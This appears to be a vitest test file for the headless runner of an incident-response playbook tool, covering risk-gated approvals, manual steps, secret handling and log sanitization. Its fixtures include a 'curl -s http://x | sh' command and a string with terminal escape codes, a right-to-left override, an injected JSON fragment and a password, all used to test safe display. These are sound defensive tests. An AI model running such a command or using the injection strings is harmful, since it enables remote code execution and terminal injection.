import { PassThrough } from 'node:stream';
import { describe, expect, test } from 'vitest';
import type { Finding } from '../../src/findings/finding.ts';
import { type HeadlessOptions, runHeadless } from '../../src/headless/run-headless.ts';
import type { OperationTarget } from '../../src/operations/operation.ts';
import {
  COMMAND,
  makeFinding,
  makeLook,
  makePlaybook,
  makeProcess,
  makeStep,
} from '../support/incident-builder.ts';
import { type Script, ScriptedHandle } from '../support/scripted-handle.ts';

const MINER = makeFinding('process:1');
const SHADY = makeFinding('process:2', { verdict: 'suspicious', title: 'sh (900)', score: 60 });
const FINE = makeFinding('process:3', { verdict: 'benign', title: 'apt (1190)', score: 5 });
const BLOCK: OperationTarget = { kind: 'block-address', address: '10.66.0.9' };
const KILL: OperationTarget = { kind: 'kill-process', process: makeProcess(812, 'kworkerds') };
const RUN: OperationTarget = {
  ...COMMAND,
  command: { shell: 'first line\ncurl -s http://x | sh #\u001b[2J\n\n last line' },
  risk: 'reversible',
};
const COLLECT: OperationTarget = { kind: 'collect-process', process: makeProcess(812, 'kworkerds') };

async function run(script: Script, options: Partial<HeadlessOptions> = {}) {
  const handle = new ScriptedHandle(script);
  const output = new PassThrough();
  const chunks: Buffer[] = [];
  output.on('data', (chunk: Buffer) => chunks.push(chunk));
  const result = await runHeadless({
    handle,
    output,
    format: 'text',
    approve: true,
    maxRisk: 'reversible',
    choose: 'malicious',
    ...options,
  });
  const text = Buffer.concat(chunks).toString('utf8');
  return { handle, result, text, lines: text.trimEnd().split('\n') };
}

const found =
  (...findings: Finding[]) =>
  () =>
    makeLook(findings);
const oneStep = (plan: OperationTarget[], details: Partial<Script> = {}): Script => ({
  playbook: makePlaybook([makeStep('act')]),
  look: found(MINER, SHADY, FINE),
  plan: () => plan,
  ...details,
});

describe('what may be done unattended', () => {
  test('a playbook within the mandate is walked to its end and the incident is closed', async () => {
    const { handle, result, lines } = await run({
      playbook: makePlaybook([makeStep('look', { uses: 'triage' }), makeStep('block-c2')]),
      look: found(MINER),
      plan: (step) => (step.id === 'block-c2' ? [BLOCK] : []),
      planDetails: () => ({ risk: 'reversible' }),
    });
    expect(result).toMatchObject({ result: 'done', failed: [], skipped: [], notRun: [] });
    expect(handle.view().incident.closedAt).not.toBeNull();
    expect(handle.leftBecause).toBeNull();
    expect(lines).toContain(
      '04:12:03 [1/2] Look: looked: 1 seen, 1 of them malicious or suspicious, 1 chosen (1.2 s)'.replace(
        '03',
        '02',
      ),
    );
    expect(lines.at(-1)).toBe('done: Every step is finished, the incident is closed.');
  });

  test('what is said of a step called a secret is no secret', async () => {
    const step = { ...makeStep('act'), title: 'Reset the password' };
    const { lines } = await run({ playbook: makePlaybook([step]), look: found(MINER), plan: () => [] });
    expect(lines.some((line) => line.includes('Reset the password: looked: 1 seen'))).toBe(true);
  });

  test('without --yes only what changes nothing is done', async () => {
    const evidence = await run(oneStep([COLLECT]), { approve: false });
    expect(evidence.result.result).toBe('done');
    const nothing = await run(oneStep([]), { approve: false, maxRisk: 'read-only' });
    expect(nothing.result.result).toBe('done');
    const kill = await run(oneStep([KILL]), { approve: false, maxRisk: 'irreversible' });
    expect(kill.result).toMatchObject({
      result: 'needs-approval',
      stepId: 'act',
      flag: '--yes --max-risk irreversible',
    });
    expect(kill.handle.view().incident.steps[0]?.isApproved).toBe(false);
  });

  test('a plan above --max-risk ends the run, says what would allow it, and leaves the incident resumable', async () => {
    const { handle, result, lines } = await run(oneStep([KILL]));
    expect(result).toMatchObject({
      result: 'needs-approval',
      flag: '--max-risk irreversible',
      notRun: ['act'],
    });
    expect(result.message).toContain('only what is reversible or milder was allowed');
    expect(handle.view().incident.closedAt).toBeNull();
    expect(handle.leftBecause).not.toBeNull();
    expect(handle.commands).toEqual([]);
    expect(lines.at(-1)).toMatch(/^needs-approval: Act is irreversible/);
  });

  test('a command of the playbook stands whole in the log before it is approved', async () => {
    const { text } = await run(oneStep([RUN]));
    const shown = text.indexOf('| first line\n         | curl -s http://x | sh #\\x1b[2J\n');
    expect(shown).toBeGreaterThan(0);
    expect(text.indexOf('|  last line\n')).toBeGreaterThan(shown);
    expect(text.indexOf('plan approved')).toBeGreaterThan(text.indexOf('|  last line\n'));
  });

  test('what a person is asked twice for needs --max-risk irreversible, and says what would be left', async () => {
    const remarks = ['It takes away the last key.', 'Left to get in by over SSH: bob by a password.'];
    const script = oneStep([BLOCK], { planDetails: () => ({ risk: 'reversible', word: 'close', remarks }) });
    const { handle, result } = await run(script, { maxRisk: 'disruptive' });
    expect(result).toMatchObject({ result: 'needs-approval', flag: '--max-risk irreversible' });
    expect(result.message).toContain(`Act may lock people out, and only what is disruptive`);
    expect(result.message).toContain(remarks.join(' '));
    expect(handle.commands).toEqual([]);
    expect((await run(script, { maxRisk: 'irreversible' })).result.result).toBe('done');
  });

  test('--max-risk irreversible does it, and the journal says it was unattended', async () => {
    const { handle, result } = await run(oneStep([KILL]), { maxRisk: 'irreversible' });
    expect(result.result).toBe('done');
    expect(handle.commands[0]).toMatchObject({ kind: 'approve-plan', how: 'unattended' });
  });

  test('--choose suspicious adds what is suspicious, once, and never what is benign', async () => {
    const { handle, result } = await run(oneStep([COLLECT]), { choose: 'suspicious' });
    expect(result.result).toBe('done');
    expect(handle.commands.map((command) => command.kind)).toEqual([
      'choose-findings',
      'approve-plan',
      'close-incident',
    ]);
    expect(handle.commands[0]).toMatchObject({ findingIds: ['process:1', 'process:2'] });
    const narrow = await run(oneStep([COLLECT]));
    expect(narrow.handle.commands[0]?.kind).toBe('approve-plan');
  });
});

describe('what only a person may decide', () => {
  test('a manual step is skipped and says so', async () => {
    const { handle, result, lines } = await run({
      playbook: makePlaybook([
        makeStep('rebuild', { uses: 'manual', manual: { instructions: ['do'], record: ['what'] } }),
      ]),
    });
    expect(result).toMatchObject({ result: 'done', skipped: ['rebuild'] });
    expect(handle.view().incident.steps[0]?.reason).toBe('nobody there to do it by hand');
    expect(lines.at(-1)).toMatch(
      /^done: The list is through, .* 1 of 1 steps? did not end well or were left out\./,
    );
  });

  test('missing inputs end the run with what to give; a secret cannot be given by a flag', async () => {
    const input = {
      type: 'string',
      isList: false,
      description: 'who',
      isRequired: true,
      isSecret: false,
      default: null,
      options: [],
      pattern: null,
    } as const;
    const inputs = { peer: input, key: { ...input, isSecret: true } };
    const { result } = await run({ playbook: makePlaybook([makeStep('look')], { inputs }) });
    expect(result).toMatchObject({ result: 'needs-input', flag: '--input peer=VALUE' });
    expect(result.message).toContain('key is kept secret, and only asked for in a terminal or in line mode.');
  });

  test('a failed step ends the run; with on-failure: continue it goes on', async () => {
    const fails = { perform: () => ({ status: 'failed' as const, message: 'no such thing' }) };
    const stop = await run(oneStep([COLLECT], fails));
    expect(stop.result).toMatchObject({ result: 'failed', stepId: 'act', failed: ['act'] });
    expect(stop.result.message).toContain('no such thing');
    const go = await run({
      ...oneStep([COLLECT], fails),
      playbook: makePlaybook([makeStep('act', { onFailure: 'continue' }), makeStep('after')]),
      plan: (step) => (step.id === 'act' ? [COLLECT] : []),
    });
    expect(go.result).toMatchObject({ result: 'done', failed: ['act'] });
  });

  test('isolation is confirmed by the two-sided test alone; if that fails, the step fails', async () => {
    const isolate: OperationTarget = {
      kind: 'isolate-host',
      allowedPeers: ['10.8.0.4'],
      allowDns: true,
      confirmWithinMs: 60_000,
      mustReach: null,
      mustNotReach: null,
    };
    const script = oneStep([isolate], { perform: () => ({ confirmBefore: 1 }) });
    const good = await run(script, { maxRisk: 'disruptive' });
    expect(good.result.result).toBe('done');
    expect(good.handle.commands).toContainEqual({
      kind: 'confirm-operation',
      operationId: 'act.1.1',
      how: 'two-sided-test',
    });
    const bad = await run(
      { ...script, confirm: () => ({ status: 'does-not-hold', detail: 'the forbidden peer answered' }) },
      { maxRisk: 'disruptive' },
    );
    expect(bad.result).toMatchObject({ result: 'failed', failed: ['act'] });
    expect(bad.result.message).toContain('the forbidden peer answered');
  });

  test('an operation that was cut off and cannot be judged waits for a person', async () => {
    const operation = { ...KILL, id: 'act.1.1', because: [] };
    const { result } = await run({
      playbook: makePlaybook([makeStep('act')]),
      recover: () => ({ status: 'unknown', detail: 'no trace' }),
      before: [
        {
          kind: 'plan-made',
          stepId: 'act',
          plan: {
            number: 1,
            operations: [operation],
            hash: 'h',
            risk: 'irreversible',
            checkedAfter: '',
            remarks: [],
            watch: null,
          },
        },
        { kind: 'plan-approved', stepId: 'act', planHash: 'h', how: 'key' },
        {
          kind: 'operation-started',
          stepId: 'act',
          operationId: 'act.1.1',
          receipt: { kind: 'kill-process' },
          evidence: [],
        },
        {
          kind: 'runner-attached',
          session: {
            responder: 'ana',
            account: 'root',
            peerAddress: null,
            front: 'headless',
            pid: 1,
            version: '0',
          },
        },
      ],
    });
    expect(result).toMatchObject({ result: 'needs-approval', stepId: 'act', flag: null });
    expect(result.message).toContain('kill-process kworkerds (812) was cut off');
  });

  test('a host that undoes everything does not keep it going for ever', async () => {
    const { result } = await run(
      oneStep([COLLECT], { refuse: () => ({ code: 'stale', message: 'another process has its number' }) }),
    );
    expect(result).toMatchObject({ result: 'failed', stepId: 'act' });
    expect(result.message).toContain('kept changing under the plan');
  });

  test('a signal ends the run and leaves the incident resumable', async () => {
    const abort = new AbortController();
    const { handle, result } = await run(oneStep([COLLECT], { gate: async () => abort.abort() }), {
      signal: abort.signal,
    });
    expect(result.result).toBe('interrupted');
    expect(handle.leftBecause).not.toBeNull();
    expect(handle.view().incident.closedAt).toBeNull();
  });

  test('a runner that stops ends the run with its reason', async () => {
    const script = oneStep([COLLECT]);
    let handle: ScriptedHandle | null = null;
    const gate = async () => handle?.stop('the journal cannot be written: no space left');
    handle = new ScriptedHandle({ ...script, gate });
    const result = await runHeadless({
      handle,
      output: new PassThrough(),
      format: 'text',
      approve: true,
      maxRisk: 'reversible',
      choose: 'malicious',
    });
    expect(result).toMatchObject({
      result: 'stopped',
      message: 'the journal cannot be written: no space left',
    });
  });
});

describe('what is written', () => {
  const HOSTILE = 'x\x1b]0;owned\x07\u202e\n{"seq":1} password=hunter2';
  const script: Script = {
    playbook: makePlaybook([makeStep('act')]),
    look: found(makeFinding('process:9', { title: HOSTILE })),
    plan: () => [COLLECT],
    perform: () => ({ message: HOSTILE }),
  };

  test('as JSON, every record as it stands, one line each, the result last', async () => {
    const { handle, result, lines } = await run(script, { format: 'json' });
    const parsed = lines.map((line) => JSON.parse(line));
    expect(parsed.slice(0, -1).map((record) => record.seq)).toEqual(
      handle.records().map((record) => record.seq),
    );
    expect(parsed.at(-1)).toEqual(JSON.parse(JSON.stringify(result)));
    const finished = parsed.find((record) => record.event?.kind === 'operation-finished');
    expect(finished.event.outcome.message).toBe(HOSTILE.replace('hunter2', '[redacted password]'));
  });

  test.each(['text', 'json'] as const)(
    'as %s, host text cannot act, break a line, or tell a secret',
    async (format) => {
      const { text, lines, handle } = await run(script, { format });
      expect(text).toMatch(/^[\x20-\x7e\n]*$/);
      expect(text).not.toContain('hunter2');
      expect(lines).toHaveLength(handle.records().length + 1);
    },
  );

  test('resumed, it begins with this session', async () => {
    const attach = {
      kind: 'runner-attached' as const,
      session: {
        responder: 'bo',
        account: 'root',
        peerAddress: null,
        front: 'headless' as const,
        pid: 1,
        version: '0',
      },
    };
    const { lines } = await run({
      ...script,
      before: [{ kind: 'note-added', stepId: null, text: 'old' }, attach],
    });
    expect(lines[0]).toContain('bo (root) at work, headless');
  });

  test('a reader that goes away does not end the run', async () => {
    const output = new PassThrough();
    output.destroy();
    const { result } = await run(script, { output });
    expect(result.result).toBe('done');
  });
});
